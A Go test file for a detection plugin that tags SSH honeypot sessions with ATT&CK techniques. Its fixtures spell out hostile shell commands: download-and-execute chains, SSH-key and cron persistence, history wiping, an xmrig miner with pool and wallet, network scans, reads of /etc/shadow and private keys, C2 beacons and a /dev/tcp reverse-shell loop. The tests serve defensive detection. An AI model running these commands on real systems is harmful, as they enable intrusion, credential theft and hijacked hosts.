package main

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"reflect"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/decnet/ttp/abi"
	"github.com/decnet/ttp/sdk"
	"github.com/decnet/ttp/sdk/sdktest"
)

// ruleFiles are the rules this lifter owns, as shipped.
var ruleFiles = []string{
	"../../rules/ttp/R0031.yaml", "../../rules/ttp/R0032.yaml", "../../rules/ttp/R0033.yaml",
	"../../rules/ttp/R0034.yaml", "../../rules/ttp/R0035.yaml", "../../rules/ttp/R0036.yaml",
	"../../rules/ttp/R0037.yaml", "../../rules/ttp/R0038.yaml", "../../rules/ttp/R0039.yaml",
	"../../rules/ttp/R0040.yaml",
}

func newPlugin(t testing.TB) *sdktest.Plugin {
	t.Helper()
	cfg, err := sdktest.ReadRules(ruleFiles...)
	if err != nil {
		t.Fatal(err)
	}
	p, err := sdktest.New[params](&behavioral{}, cfg...)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func sessionEvent(payload map[string]any) abi.Event {
	return abi.Event{SourceKind: abi.KindSession, SourceID: "s1", Payload: payload}
}

// jsonPayload decodes a payload written as JSON, as the bus would.
func jsonPayload(t testing.TB, s string) map[string]any {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal([]byte(s), &m); err != nil {
		t.Fatalf("%v: %s", err, s)
	}
	return m
}

// fired returns "R0031 T1059.004" per draft, sorted, and the evidence per rule.
func fired(t *testing.T, p *sdktest.Plugin, payload map[string]any) ([]string, map[string]map[string]any) {
	t.Helper()
	ds, err := p.Tag(sessionEvent(payload))
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	ev := map[string]map[string]any{}
	for _, d := range ds {
		id := d.SubTechniqueID
		if id == "" {
			id = d.TechniqueID
		}
		got = append(got, d.RuleID+" "+id)
		ev[d.RuleID] = d.Evidence
	}
	sort.Strings(got)
	return got, ev
}

// canon makes evidence comparable: JSON numbers and lists as decoded from JSON.
func canon(t *testing.T, v any) any {
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	var out any
	if err := json.Unmarshal(b, &out); err != nil {
		t.Fatal(err)
	}
	return out
}

func TestRules(t *testing.T) {
	p := newPlugin(t)
	const sha = "5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8"
	for _, tc := range []struct {
		name     string
		payload  string
		want     []string
		evidence map[string]map[string]any // optional, per rule
	}{
		{
			name: "bot session: timing, client, download-exec, two persistence mechanisms, wipe",
			payload: `{"commands": ["uname -a", "cd /tmp; wget http://45.95.147.12/x86_64 -O .ice; chmod +x .ice; ./.ice",
				"echo \"ssh-rsa AAAAB3Nza root@srv\" >> ~/.ssh/authorized_keys",
				"(crontab -l 2>/dev/null; echo '* * * * * /tmp/.ice') | crontab -", "history -c"],
				"command_times_ms": [0, 120, 260, 410, 530], "client_version": "SSH-2.0-Go",
				"downloads": [{"url": "http://45.95.147.12/x86_64", "sha256": "` + sha + `"}]}`,
			want: []string{"R0031 T1059.004", "R0033 T1059.004", "R0033 T1105", "R0034 T1053.003", "R0034 T1098.004", "R0035 T1070.003"},
			evidence: map[string]map[string]any{
				"R0031": {"commands": 5, "median_gap_ms": 130, "bot_client": "SSH-2.0-Go", "signals": []string{"timing", "client"}},
				"R0033": {"executed_files": []string{".ice"}, "url_hosts": []string{"45.95.147.12"}, "download_sha256": []string{sha}},
				"R0034": {"mechanisms": []string{"ssh_key", "cron"}, "mechanism_count": 2},
				// uname, cd, wget, chmod, ./.ice, echo, crontab, echo, crontab
				"R0035": {"prior_commands": 9, "wipe_methods": []string{"history -c"}},
			},
		},
		{
			name:    "human typing speed with an OpenSSH client is not automated",
			payload: `{"commands": ["ls", "cd /var/www", "ls -la", "git status", "git pull", "ls"], "command_times_ms": [0, 2100, 5400, 9000, 15500, 21000], "client_version": "SSH-2.0-OpenSSH_9.6"}`,
			want:    nil,
		},
		{
			name:    "bot client alone",
			payload: `{"commands": ["echo ok"], "client_version": "SSH-2.0-libssh_0.9.6"}`,
			want:    []string{"R0031 T1059.004"},
			evidence: map[string]map[string]any{
				"R0031": {"commands": 1, "bot_client": "SSH-2.0-libssh", "signals": []string{"client"}},
			},
		},
		{
			name: "discovery burst within a minute",
			payload: `{"commands": ["uname -a", "cat /proc/cpuinfo | grep 'model name' | head -1", "free -m", "whoami", "ip a", "df -h"],
				"command_times_ms": [0, 4000, 9000, 15000, 21000, 80000], "client_version": "SSH-2.0-PuTTY_Release_0.80"}`,
			want: []string{"R0032 T1082"},
			evidence: map[string]map[string]any{
				"R0032": {"discovery_count": 5, "discovery_commands": []string{"uname", "/proc/cpuinfo", "free", "whoami", "ip"}, "burst_span_ms": 21000},
			},
		},
		{
			name:    "discovery spread over an hour is not a burst",
			payload: `{"commands": ["uname -a", "free -m", "whoami", "ip a", "df -h"], "command_times_ms": [0, 900000, 1800000, 2700000, 3600000]}`,
			want:    nil,
		},
		{
			name:    "discovery without times, short session",
			payload: `{"commands": ["uname -a; nproc; whoami; w; lscpu; cat /etc/os-release"], "duration_ms": 2300}`,
			want:    []string{"R0032 T1082"},
			evidence: map[string]map[string]any{
				"R0032": {"discovery_count": 6, "discovery_commands": []string{"uname", "nproc", "whoami", "w", "lscpu", "/etc/os-release"}},
			},
		},
		{
			name:    "download piped into a shell",
			payload: `{"commands": ["curl -fsSL http://203.0.113.50/i.sh | bash"], "command_times_ms": [0]}`,
			want:    []string{"R0033 T1059.004", "R0033 T1105"},
			evidence: map[string]map[string]any{
				"R0033": {"piped": true, "url_hosts": []string{"203.0.113.50"}},
			},
		},
		{
			name:    "download and read, never run",
			payload: `{"commands": ["wget https://example.org/install.sh", "less install.sh", "chmod +x install.sh"], "command_times_ms": [0, 5000, 12000]}`,
			want:    nil,
		},
		{
			name:    "run before the download does not count",
			payload: `{"commands": ["./bins.sh", "wget http://198.51.100.3/bins.sh"], "command_times_ms": [0, 6000]}`,
			want:    nil,
		},
		{
			name:    "tftp then sh through busybox",
			payload: `{"commands": ["cd /tmp || cd /var/run; busybox tftp -g -r tftp1.sh 198.51.100.3; busybox sh tftp1.sh"], "downloads": [{"url": "tftp://198.51.100.3/tftp1.sh"}]}`,
			want:    []string{"R0033 T1059.004", "R0033 T1105"},
			evidence: map[string]map[string]any{
				"R0033": {"executed_files": []string{"tftp1.sh"}, "url_hosts": []string{"198.51.100.3"}},
			},
		},
		{
			name:    "one persistence mechanism is not a combination",
			payload: `{"commands": ["echo 'ssh-ed25519 AAAAC3 k' >> /root/.ssh/authorized_keys", "cat /etc/crontab"], "command_times_ms": [0, 8000]}`,
			want:    nil,
		},
		{
			name:    "systemd unit plus rc.local plus user",
			payload: `{"commands": ["cp /tmp/.d /etc/systemd/system/dbus-helper.service", "systemctl enable dbus-helper", "echo /tmp/.d >> /etc/rc.local", "useradd -m -s /bin/bash sysadm"], "command_times_ms": [0, 7000, 15000, 30000]}`,
			want:    []string{"R0034 T1037.004", "R0034 T1136.001", "R0034 T1543.002"},
			evidence: map[string]map[string]any{
				"R0034": {"mechanisms": []string{"systemd", "rc_script", "local_account"}, "mechanism_count": 3},
			},
		},
		{
			name:    "unset HISTFILE before any activity",
			payload: `{"commands": ["unset HISTFILE", "uptime", "ls"], "command_times_ms": [0, 3000, 8000]}`,
			want:    nil,
		},
		{
			name:    "reading the history is not wiping it",
			payload: `{"commands": ["id", "ls -la", "pwd", "cat ~/.bash_history", "history | tail"], "command_times_ms": [0, 3000, 8000, 12000, 20000]}`,
			want:    nil,
		},
		{
			name:    "history linked to /dev/null after work",
			payload: `{"commands": ["cd /dev/shm", "wget -q http://198.51.100.7/a", "chmod 700 a", "ln -sf /dev/null ~/.bash_history"], "command_times_ms": [0, 3000, 8000, 12000]}`,
			want:    []string{"R0035 T1070.003"},
			evidence: map[string]map[string]any{
				"R0035": {"prior_commands": 3, "wipe_methods": []string{".bash_history"}},
			},
		},
		{
			name:    "miner with pool and cpu probe",
			payload: `{"commands": ["nproc", "./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x --donate-level 1"], "command_times_ms": [0, 9000]}`,
			want:    []string{"R0036 T1496.001"},
			evidence: map[string]map[string]any{
				"R0036": {"signals": []string{"miner", "pool", "flags", "wallet"}, "miners": []string{"xmrig"}, "pool_hosts": []string{"pool.supportxmr.com"}, "cpu_probe": true},
			},
		},
		{
			name:    "killing a rival miner is not mining",
			payload: `{"commands": ["pkill -f xmrig", "ps aux | grep stratum"], "command_times_ms": [0, 9000]}`,
			want:    nil,
		},
		{
			name:    "masscan",
			payload: `{"commands": ["masscan 0.0.0.0/0 -p22,23 --rate 50000 -oL out.txt"], "command_times_ms": [0]}`,
			want:    []string{"R0037 T1046"},
			evidence: map[string]map[string]any{
				"R0037": {"signals": []string{"tool"}, "scanners": []string{"masscan"}, "targets": 0},
			},
		},
		{
			name:    "nmap --version is not a scan",
			payload: `{"commands": ["nmap --version"], "command_times_ms": [0]}`,
			want:    nil,
		},
		{
			name:    "netcat sweep in a loop",
			payload: `{"commands": ["for i in $(seq 1 254); do nc -zv -w1 10.0.0.$i 22; done"], "command_times_ms": [0]}`,
			want:    []string{"R0037 T1046"},
			evidence: map[string]map[string]any{
				"R0037": {"signals": []string{"loop_sweep"}, "targets": 0},
			},
		},
		{
			name:    "shadow and a private key",
			payload: `{"commands": ["cat /etc/shadow", "cat /root/.ssh/id_rsa", "cat /root/.ssh/id_rsa.pub"], "command_times_ms": [0, 5000, 9000]}`,
			want:    []string{"R0038 T1003.008", "R0038 T1552.004"},
			evidence: map[string]map[string]any{
				"R0038": {"credential_sources": []string{"shadow", "private_keys"}, "credential_reads": 2},
			},
		},
		{
			name:    "laZagne through python",
			payload: `{"commands": ["python3 laZagne.py all"], "command_times_ms": [0]}`,
			want:    []string{"R0038 T1555"},
			evidence: map[string]map[string]any{
				"R0038": {"credential_sources": []string{"password_stores"}, "credential_reads": 1, "dump_tools": []string{"lazagne"}},
			},
		},
		{
			name:    "listing and generating keys is not dumping",
			payload: `{"commands": ["ls -l /etc/shadow", "ssh-keygen -t rsa -f ~/.ssh/id_rsa -N ''", "cat ~/.ssh/id_rsa.pub", "chmod 600 ~/.ssh/id_rsa"], "command_times_ms": [0, 5000, 9000, 14000]}`,
			want:    nil,
		},
		{
			name:    "two rivals evicted",
			payload: `{"commands": ["pkill -9 kdevtmpfsi; rm -rf /tmp/kdevtmpfsi", "kill -9 $(pgrep -f kinsing)"], "command_times_ms": [0, 6000]}`,
			want:    []string{"R0039 T1489"},
			evidence: map[string]map[string]any{
				"R0039": {"rivals": []string{"kdevtmpfsi", "kinsing"}, "removals": 2},
			},
		},
		{
			name:    "looking for a miner without killing it",
			payload: `{"commands": ["ps aux | grep -E 'xmrig|kinsing'"], "command_times_ms": [0]}`,
			want:    nil,
		},
		{
			name:    "periodic callbacks",
			payload: `{"commands": ["curl -s http://c2.example.net/t", "ls", "curl -s http://c2.example.net/t", "curl -s http://c2.example.net/t"], "command_times_ms": [0, 20000, 60000, 120500]}`,
			want:    []string{"R0040 T1071.001"},
			evidence: map[string]map[string]any{
				"R0040": {"signals": []string{"periodic"}, "beacon_hosts": []string{"c2.example.net"}, "interval_ms": 60250, "repeats": 3},
			},
		},
		{
			name:    "machine-speed multi-arch downloads are not beacons",
			payload: `{"commands": ["wget http://198.51.100.7/x86", "wget http://198.51.100.7/mips", "wget http://198.51.100.7/arm7"], "command_times_ms": [0, 150, 300]}`,
			want:    nil,
		},
		{
			name:    "reverse shell retry loop over /dev/tcp",
			payload: `{"commands": ["nohup bash -c 'while :; do bash -i >& /dev/tcp/203.0.113.9/4444 0>&1; sleep 30; done' &"], "command_times_ms": [0]}`,
			want:    []string{"R0040 T1095"},
			evidence: map[string]map[string]any{
				"R0040": {"signals": []string{"loop"}, "beacon_hosts": []string{"203.0.113.9"}, "interval_ms": 30000},
			},
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, ev := fired(t, p, jsonPayload(t, tc.payload))
			if !reflect.DeepEqual(got, tc.want) {
				t.Fatalf("fired %v, want %v (evidence %v)", got, tc.want, ev)
			}
			for rule, want := range tc.evidence {
				if g, w := canon(t, ev[rule]), canon(t, want); !reflect.DeepEqual(g, w) {
					t.Errorf("%s evidence\n got %v\nwant %v", rule, g, w)
				}
			}
		})
	}
}

func TestOddPayloads(t *testing.T) {
	p := newPlugin(t)
	for name, payload := range map[string]string{
		"empty":                  `{}`,
		"no commands":            `{"commands": [], "client_version": "SSH-2.0-Go"}`,
		"commands not strings":   `{"commands": [1, true, null], "command_times_ms": [0, 1, 2]}`,
		"times misaligned":       `{"commands": ["a", "b", "c", "d", "e"], "command_times_ms": [0, 1]}`,
		"times decreasing":       `{"commands": ["a", "b", "c", "d", "e"], "command_times_ms": [5, 4, 3, 2, 1]}`,
		"times not numbers":      `{"commands": ["a", "b", "c", "d", "e"], "command_times_ms": ["x", "y", "z", "w", "v"]}`,
		"unterminated quotes":    `{"commands": ["echo \"abc", "'", "\\", "$(", "))))", "|||", "&&&"]}`,
		"downloads without sha":  `{"commands": ["wget http://h.example/x"], "downloads": [{"url": "http://h.example/x"}]}`,
		"downloads not an array": `{"commands": ["ls"], "downloads": "x"}`,
	} {
		t.Run(name, func(t *testing.T) {
			got, _ := fired(t, p, jsonPayload(t, payload))
			if len(got) > 0 {
				t.Fatalf("fired %v", got)
			}
		})
	}
}

func TestDeepNesting(t *testing.T) {
	p := newPlugin(t)
	cmd := "uname -a"
	for range 8 {
		cmd = "sh -c " + fmt.Sprintf("%q", cmd)
	}
	if _, err := p.Tag(sessionEvent(map[string]any{"commands": []any{cmd, strings.Repeat("(", 10000), strings.Repeat("a ", 50000)}})); err != nil {
		t.Fatal(err)
	}
}

// parseLine reads one command line with an empty dictionary.
func parseLine(line string) *session {
	s := &session{dict: &dictionary{}}
	s.cmds = append(s.cmds, s.lower(line))
	s.orig = append(s.orig, line)
	s.parse(s.cmds[0], 0, 0)
	return s
}

// TestHostileEvents feeds events built to make the detectors' work explode; the caps on
// commands, text, segments and distinct values keep each call short.
func TestHostileEvents(t *testing.T) {
	p := newPlugin(t)
	var hosts, runs, mixed strings.Builder
	for i := range 24000 {
		fmt.Fprintf(&hosts, "curl http://h%d.example.net/x%d;", i, i)
		fmt.Fprintf(&runs, "wget http://198.51.100.1/f%d;./f%d;", i, i)
		fmt.Fprintf(&mixed, "nc -z 10.%d.%d.1 1-9;pkill kinsing%d;", i/250, i%250, i)
	}
	many := make([]any, 20000)
	times := make([]any, len(many))
	for i := range many {
		many[i] = fmt.Sprintf("curl -s http://c2.example.net/t%d", i%7)
		times[i] = float64(i * 60000)
	}
	for name, payload := range map[string]map[string]any{
		"distinct hosts":      {"commands": []any{hosts.String()}},
		"downloads and runs":  {"commands": []any{runs.String()}},
		"scans and evictions": {"commands": []any{mixed.String()}},
		"many command lines":  {"commands": many, "command_times_ms": times},
		"deep quotes":         {"commands": []any{strings.Repeat(`sh -c "`, 20000)}},
		"one huge word":       {"commands": []any{strings.Repeat("a", 900000)}},
		"separators only":     {"commands": []any{strings.Repeat(";|&", 300000)}},
	} {
		t.Run(name, func(t *testing.T) {
			start := time.Now()
			if _, err := p.Tag(sessionEvent(payload)); err != nil {
				t.Fatal(err)
			}
			// natively a few milliseconds; generous for a busy machine
			if d := time.Since(start); d > 2*time.Second {
				t.Errorf("took %v", d)
			}
		})
	}
}

func TestSegments(t *testing.T) {
	for _, tc := range []struct {
		line  string
		verbs []string
	}{
		{`cd /tmp; wget http://x/y -O .ice && chmod +x .ice || ./.ice &`, []string{"cd", "wget", "chmod", ".ice"}},
		{`sudo -u root nohup ./run >/dev/null 2>&1 &`, []string{"run"}},
		{`ps aux | grep -v grep | awk '{print $2}' | xargs -I % kill -9 %`, []string{"ps", "grep", "awk", "kill"}},
		{`kill -9 $(pgrep -f "kinsing|kdev")`, []string{"kill", "pgrep"}},
		{`sh -c "uname -a; id"`, []string{"sh", "uname", "id"}},
		{`FOO=1 timeout 10 busybox wget http://x/y`, []string{"wget"}},
		{`echo "uname -a; nproc" > /tmp/x`, []string{"echo"}},
		{`for i in 1 2; do nc -z h $i; done`, []string{"for", "nc"}},
		{"HISTSIZE=0", []string{""}},
	} {
		s := parseLine(tc.line)
		var got []string
		for i := range s.segs {
			got = append(got, s.verb(&s.segs[i]))
		}
		if !reflect.DeepEqual(got, tc.verbs) {
			t.Errorf("%s: verbs %q, want %q", tc.line, got, tc.verbs)
		}
	}
}

func TestWritesAndHosts(t *testing.T) {
	s := parseLine(`echo k >> ~/.ssh/authorized_keys; cat /etc/crontab > /tmp/c; tee -a /etc/profile; sed -i 's/a/b/' /etc/rc.local; cp a b /etc/cron.d/x; wget -o/tmp/y http://h/y; curl --output=/tmp/z u`)
	var got []string
	for i := range s.segs {
		got = s.writes(&s.segs[i], got)
	}
	want := []string{"~/.ssh/authorized_keys", "/tmp/c", "/etc/profile", "/etc/rc.local", "/etc/cron.d/x", "/tmp/y", "/tmp/z"}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("writes %q, want %q", got, want)
	}
	for w, h := range map[string]string{
		"http://user@c2.example.net:8080/x?a": "c2.example.net",
		"root@10.0.0.5":                       "10.0.0.5",
		"1.2.3.4:22":                          "1.2.3.4",
		"tcp:198.51.100.1:443":                "198.51.100.1",
		"/tmp/x.sh":                           "",
		"install.sh":                          "",
		"22":                                  "",
		"1.2.3":                               "",
	} {
		if got := hostArg(w); got != h {
			t.Errorf("hostArg(%q) = %q, want %q", w, got, h)
		}
	}
	for a, want := range map[string]float64{"60": 60, "1m": 60, "0.5": 0.5, "2h": 7200} {
		if got, ok := seconds(a); !ok || got != want {
			t.Errorf("seconds(%q) = %v %v", a, got, ok)
		}
	}
	if _, ok := seconds("inf"); ok {
		t.Error("seconds(inf) accepted")
	}
	if !isWallet(strings.ToLower("44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A.rig1")) {
		t.Error("wallet not recognised")
	}
	if isWallet(strings.Repeat("4", 94)) {
		t.Error("short wallet recognised")
	}
}

func TestRejectsBadParams(t *testing.T) {
	cfg, err := sdktest.ReadRules(ruleFiles...)
	if err != nil {
		t.Fatal(err)
	}
	p, err := sdktest.New[params](&behavioral{})
	if err != nil {
		t.Fatal(err)
	}
	base := func(id string) abi.RuleConfig {
		for _, c := range cfg {
			if c.ID == id {
				c.Params = clone(c.Params)
				return c
			}
		}
		t.Fatalf("no rule %s", id)
		return abi.RuleConfig{}
	}
	for _, tc := range []struct {
		name string
		rule func() abi.RuleConfig
		msg  string
	}{
		{"unknown kind", func() abi.RuleConfig { r := base("R0031"); r.Kind = "lifter:behavioral_nope"; return r }, "unknown rule kind lifter:behavioral_nope"},
		{"min_commands too small", func() abi.RuleConfig { r := base("R0031"); r.Params["min_commands"] = 1.0; return r }, "params.min_commands must be at least 2, got 1"},
		{"wrong type", func() abi.RuleConfig { r := base("R0031"); r.Params["max_median_gap_ms"] = "fast"; return r }, "params.max_median_gap_ms: want a number"},
		{"typo", func() abi.RuleConfig { r := base("R0032"); r.Params["min_distinc"] = 3.0; return r }, "params.min_distinc: unknown to this lifter"},
		{"missing list", func() abi.RuleConfig { r := base("R0033"); delete(r.Params, "downloaders"); return r }, "params.downloaders: required list of strings is missing"},
		{"empty entry", func() abi.RuleConfig { r := base("R0035"); r.Params["markers"] = []any{"history -c", " "}; return r }, "params.markers[1] is empty"},
		{"mechanism technique not emitted", func() abi.RuleConfig {
			r := base("R0034")
			r.Emits = r.Emits[:1]
			return r
		}, "params.mechanisms.local_account: technique T1136.001 is not among the rule's emits"},
		{"mechanism unknown key", func() abi.RuleConfig {
			r := base("R0034")
			r.Params["mechanisms"] = map[string]any{"cron": map[string]any{"technique": "T1053.003", "pathz": []any{"/etc/crontab"}}}
			return r
		}, "params.mechanisms.cron.pathz: unknown key"},
		{"protocols not a mapping", func() abi.RuleConfig { r := base("R0040"); r.Params["protocols"] = []any{"curl"}; return r }, "params.protocols must be a mapping"},
		{"jitter out of range", func() abi.RuleConfig { r := base("R0040"); r.Params["max_jitter"] = -1.0; return r }, "params.max_jitter must be between 0 and 10"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rejected, err := p.Configure(tc.rule())
			if err != nil {
				t.Fatal(err)
			}
			if len(rejected) != 1 || !strings.Contains(rejected[0].Message, tc.msg) {
				t.Fatalf("rejected %+v, want a message containing %q", rejected, tc.msg)
			}
		})
	}
}

func clone(m map[string]any) map[string]any {
	b, _ := json.Marshal(m)
	var out map[string]any
	_ = json.Unmarshal(b, &out)
	return out
}

// benchPayload is a typical bot session: ten commands, 449 bytes of JSON.
const benchPayload = `{"commands":["uname -a","cat /proc/cpuinfo | grep name","free -m","whoami","cd /tmp","wget http://45.95.147.12/x86_64 -O .ice","chmod +x .ice","./.ice","echo ssh-rsa AAAA k >> .ssh/authorized_keys","history -c"],"command_times_ms":[0,120,260,410,530,700,820,990,1100,1250],"duration_ms":1830,"client_version":"SSH-2.0-Go","downloads":[{"url":"http://45.95.147.12/x86_64","sha256":"5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8"}]}`

func BenchmarkTag(b *testing.B) {
	p := newPlugin(b)
	ev := sessionEvent(jsonPayload(b, benchPayload))
	ds, err := p.Tag(ev)
	if err != nil || len(ds) == 0 {
		b.Fatalf("%v %v", ds, err)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for b.Loop() {
		if _, err := p.Tag(ev); err != nil {
			b.Fatal(err)
		}
	}
}

// guestLoop runs the lifter's own Tag b.N times from inside one sdk call: the cost of the guest
// side alone (reading the record, the shell, the ten detectors), without sdktest's projection,
// double call and reply decoding. Drafts go to a Drafts the sdk never configured, so adding
// them costs nothing and the cost measured is detection.
type guestLoop struct {
	*behavioral
	b    *testing.B
	done bool
}

func (l *guestLoop) Tag(ev *sdk.Event, rules []*sdk.Rule[params], _ *sdk.Drafts) {
	if l.done {
		return
	}
	l.done = true
	var sink sdk.Drafts
	l.b.ReportAllocs()
	l.b.ResetTimer()
	for l.b.Loop() {
		l.behavioral.Tag(ev, rules, &sink)
	}
}

func BenchmarkGuest(b *testing.B) {
	cfg, err := sdktest.ReadRules(ruleFiles...)
	if err != nil {
		b.Fatal(err)
	}
	p, err := sdktest.New[params](&guestLoop{behavioral: &behavioral{}, b: b}, cfg...)
	if err != nil {
		b.Fatal(err)
	}
	if _, err := p.Tag(sessionEvent(jsonPayload(b, benchPayload))); err != nil {
		b.Fatal(err)
	}
}

// BenchmarkParse measures the shell reading of the same ten commands alone.
func BenchmarkParse(b *testing.B) {
	var m map[string]any
	if err := json.Unmarshal([]byte(benchPayload), &m); err != nil {
		b.Fatal(err)
	}
	var cmds []string
	for _, c := range m["commands"].([]any) {
		cmds = append(cmds, c.(string))
	}
	var d dictionary
	d.build()
	s := session{dict: &d}
	b.ReportAllocs()
	for b.Loop() {
		s.reset()
		for i, c := range cmds {
			s.cmds = append(s.cmds, s.lower(c))
			s.parse(s.cmds[i], i, 0)
		}
	}
	if len(s.segs) != 11 {
		b.Fatalf("%d segments", len(s.segs))
	}
}

// TestAutomaton checks the Aho-Corasick scan (with its lazily completed rows) against a naive
// search, on texts stitched from keyword fragments so that overlaps and near misses abound.
func TestAutomaton(t *testing.T) {
	words := []string{"/etc/shadow", "shadow", "/etc/sha", "id_rsa", "id_", "xmr", "xmrig", "stratum+tcp://",
		"tcp://", ".bash_history", "history -c", "his", "a", "aa", "aaa", "/proc/cpuinfo", "cpu"}
	a := buildAutomaton(words)
	r := rand.New(rand.NewPCG(1, 2))
	for n := range 3000 {
		var b strings.Builder
		for range r.IntN(12) {
			w := words[r.IntN(len(words))]
			i, j := r.IntN(len(w)+1), r.IntN(len(w)+1)
			if i > j {
				i, j = j, i
			}
			if r.IntN(3) == 0 {
				b.WriteString(w)
			} else {
				b.WriteString(w[i:j])
			}
			if r.IntN(4) == 0 {
				b.WriteByte(" ;|Z"[r.IntN(4)])
			}
		}
		text := b.String()
		got := map[[3]int]bool{}
		for _, m := range a.scan(text, nil) {
			got[[3]int{int(m.Index), int(m.From), int(m.To)}] = true
		}
		want := map[[3]int]bool{}
		for id, w := range words {
			for i := 0; i+len(w) <= len(text); i++ {
				if text[i:i+len(w)] == w {
					want[[3]int{id, i, i + len(w)}] = true
				}
			}
		}
		if !reflect.DeepEqual(got, want) {
			t.Fatalf("text %d %q: scan %v, want %v", n, text, got, want)
		}
	}
}
